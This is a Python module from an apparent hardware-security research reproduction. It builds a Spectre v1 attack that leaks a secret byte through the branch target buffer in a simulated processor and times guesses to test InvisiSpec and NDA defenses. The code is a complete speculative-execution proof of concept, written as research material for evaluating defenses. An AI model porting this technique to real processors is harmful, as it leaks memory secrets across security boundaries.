"""Spectre v1 with the BTB covert channel (the paper's §3 / Listing 3).

Identical access phase to :mod:`repro.attacks.spectre_v1`, but the transmit
phase leaks through the *branch target buffer*: the wrong path calls
``jumpToTarget(secret)``, an indirect call made from a single call site, so
the BTB entry for that site ends up pointing at ``targets[secret]``.  The
squash does not revert the BTB.  The recover phase re-runs the access phase
for every guess (the channel is destructive) and times
``jumpToTarget(guess)``: only the correct guess predicts the target and
avoids the ~16-cycle misprediction penalty (paper Fig. 5).

Every cache line involved (targets table, target functions) is kept warm
during access, transmit, and recovery, so timing differences can come only
from the BTB — the validation step the paper describes in §3.

This attack defeats cache-only defenses: it leaks under both InvisiSpec
variants but is blocked by every NDA policy.
"""

from __future__ import annotations

from typing import List, Optional

from repro.attacks.common import (
    ARRAY_SIZE,
    BTB_LEAK_MARGIN,
    RESULTS_BASE,
    SCRATCH_BASE,
    SECRET_OFFSET,
    AttackOutcome,
    default_guesses,
    read_timings,
    run_attack,
    victim_map,
)
from repro.config import SimConfig
from repro.isa.assembler import Assembler
from repro.isa.program import Program
from repro.isa.registers import (
    LR, R10, R11, R14, R20, R21, R22, R23, R24, R26,
)

_MAP = victim_map("spectre_v1_btb")
ARRAY_BASE = _MAP["array"]
SIZE_ADDR = _MAP["size"]
SECRET_ADDR = ARRAY_BASE + SECRET_OFFSET
TARGETS_TABLE = _MAP["table"]  # 256 function pointers
LR_SAVE_JUMP = SCRATCH_BASE + 0x100
LR_SAVE_VICTIM = SCRATCH_BASE + 0x108
N_TARGETS = 256
TRAIN_CALLS = 3


def build_program(
    secret: int = 42, guesses: Optional[List[int]] = None
) -> Program:
    guesses = guesses if guesses is not None else default_guesses(secret)
    asm = Assembler("spectre_v1_btb")
    asm.word(SIZE_ADDR, ARRAY_SIZE)
    asm.data(ARRAY_BASE, bytes(range(1, ARRAY_SIZE + 1)))
    asm.data(SECRET_ADDR, bytes([secret]))

    asm.jmp("main")

    # jumpToTarget (Listing 3 lines 5-6): r10 = index; single indirect call
    # site, so all targets conflict on one BTB entry.
    asm.label("jump_to_target")
    asm.li(R24, LR_SAVE_JUMP)
    asm.store(LR, R24, 0)
    asm.shli(R21, R10, 3)
    asm.add(R21, R21, R14)  # r14 = targets table base
    asm.load(R21, R21, 0)
    asm.callr(R21)  # the covert channel
    asm.li(R24, LR_SAVE_JUMP)
    asm.load(LR, R24, 0)
    asm.ret()

    # Victim (Listing 3 lines 7-14): r10 = x.
    asm.label("victim")
    asm.li(R24, LR_SAVE_VICTIM)
    asm.store(LR, R24, 0)
    asm.li(R20, SIZE_ADDR)
    asm.load(R20, R20, 0)
    asm.bge(R10, R20, "victim_done")
    asm.add(R21, R11, R10)
    asm.loadb(R10, R21, 0)  # (1) access: r10 = secret
    asm.call("jump_to_target")  # (2) transmit: BTB := targets[secret]
    asm.label("victim_done")
    asm.li(R24, LR_SAVE_VICTIM)
    asm.load(LR, R24, 0)
    asm.ret()

    asm.label("main")
    asm.li(R11, ARRAY_BASE)
    asm.li(R14, TARGETS_TABLE)
    # Warm the secret line and every channel structure so the cache cannot
    # carry the signal (§3: "no change to the cache hierarchy during the
    # attack may depend upon the secret value").
    asm.li(R20, SECRET_ADDR)
    asm.loadb(R21, R20, 0)
    for index in range(N_TARGETS):
        asm.li(R20, TARGETS_TABLE + index * 8)
        asm.load(R21, R20, 0)
    # Execute every target once (direct calls, so the BTB entry of the
    # covert call site is untouched): their instruction-cache lines must be
    # warm or the recover phase would time the i-cache, not the BTB.
    for index in range(N_TARGETS):
        asm.call("tgt_%d" % index)
    asm.fence()

    # Recover phase (Listing 3 lines 17-24).  The channel is destructive,
    # so each guess re-runs training + access + transmit first.
    for index, guess in enumerate(guesses):
        # Vary the training-call count per iteration: a fixed period would
        # let a global-history predictor learn the train/attack rhythm and
        # stop mis-speculating (real PoCs randomize for the same reason).
        for train in range(TRAIN_CALLS + (index * 5 + 3) % 4):
            asm.li(R10, train % ARRAY_SIZE)
            asm.call("victim")
        asm.li(R20, SIZE_ADDR)
        asm.clflush(R20, 0)
        asm.fence()
        asm.li(R10, SECRET_OFFSET)
        asm.call("victim")  # wrong path updates the BTB with the secret
        asm.fence()
        asm.li(R10, guess)
        asm.rdtsc(R22)
        asm.call("jump_to_target")
        asm.rdtsc(R23)
        asm.sub(R24, R23, R22)
        asm.li(R26, RESULTS_BASE + index * 8)
        asm.store(R24, R26, 0)
    asm.halt()

    # 256 distinct target functions (Listing 3 line 2).
    target_pcs = []
    for index in range(N_TARGETS):
        asm.label("tgt_%d" % index)
        target_pcs.append(asm.here)
        asm.ret()
    for index, pc in enumerate(target_pcs):
        asm.word(TARGETS_TABLE + index * 8, pc)
    return asm.build()


def run(
    config: SimConfig,
    secret: int = 42,
    guesses: Optional[List[int]] = None,
    in_order: bool = False,
    fast_forward: bool = True,
) -> AttackOutcome:
    """Run the BTB-channel attack on *config*."""
    guesses = guesses if guesses is not None else default_guesses(secret)
    program = build_program(secret, guesses)
    outcome = run_attack(
        program, config, in_order=in_order, fast_forward=fast_forward
    )
    return AttackOutcome(
        attack="spectre_v1",
        channel="btb",
        config_label=outcome.label,
        secret=secret,
        timings=read_timings(outcome, guesses),
        guesses=guesses,
        margin_required=BTB_LEAK_MARGIN,
        outcome=outcome,
    )
